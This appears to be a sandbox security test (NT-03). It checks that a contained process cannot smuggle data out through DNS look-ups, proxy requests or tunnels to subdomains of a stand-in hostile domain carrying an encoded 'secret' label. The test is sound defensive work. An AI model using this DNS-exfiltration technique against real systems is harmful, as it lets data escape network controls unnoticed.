"""NT-03: Carry data out in names.

Claim: No name is looked up outside before a connection to it is allowed, so nothing leaves in a label.
Technique: Look-ups of names below a hostile domain by the library and by packet, of every type, and requests and tunnels to them through the proxy; the host's resolver is the attacker's and keeps each question.
Source: NVIDIA OpenShell #1169; AgentCore 2026
Tiers: jail contained
"""

DRIVEN = True


def inside():
    import socket

    results = {}
    for number in range(20):
        name = f"c2vjcmv0{number}.evil.far.test"
        results[f"library {number}"] = attack.result_of(lambda: socket.getaddrinfo(name, 443))
        results[f"packet {number}"] = attack.ask_dns(attack.question(name, (1, 28, 16, 65, 255)[number % 5]))
        results[f"get {number}"] = attack.status_of(attack.ask_proxy(attack.request("GET", f"http://{name}/", name)))
        results[f"connect {number}"] = attack.tunnel(f"{name}:443".encode())
    attack.say("names", results)
    # Looking an allowed name up asks nobody either; a connection to it does.
    attack.say("look-up", attack.ask_dns(attack.question("allowed.far.test")))


def inside_connect():
    attack.say("connect", attack.reach("allowed.far.test", 28080, attack.request("GET", "/", "allowed.far.test:28080"))[:12])


def outside(trial):
    far = trial.far
    if not trial.check(far.dns, "the resolver needs root"):
        return
    far.dns.answers["allowed.far.test"] = [[far.address]]
    arguments = far.write_config("dns.toml", far.settings(f"{far.address}/32", hosts=False))
    with trial.own_server(pool="python=1", arguments=arguments, resolver=far.address) as server:
        api = server.holder("attacker")
        made = api.create(template="python", network={"allow": ["allowed.far.test:28080/http", "evil.far.test:443/tls"]})
        from harness import case as cases

        def run(entry):
            cell = api.cell(made["id"], cases.program(trial.case.attack, trial.host.told, entry), timeout_seconds=60)
            trial.hear(cell["stdout"])

        run("inside()")
        names = trial.found["names"]
        trial.equal(len(names), 80, "what was tried")
        for name, result in names.items():
            allowed = {"library": ("gaierror", "EAI_NONAME"), "packet": ([3, 0],), "get": ("403",), "connect": ("403",)}[name.split()[0]]
            trial.check(result in allowed, f"{name}: {result!r}")
        trial.equal(trial.found["look-up"], [0, 1], "an allowed name")
        trial.equal(list(far.dns.asked), [], "questions that left the host")
        run("inside_connect()")
        trial.equal(trial.found["connect"], "HTTP/1.1 200", "a connection to an allowed name")
        trial.equal(set(far.dns.asked), {"allowed.far.test"}, "questions that left the host")
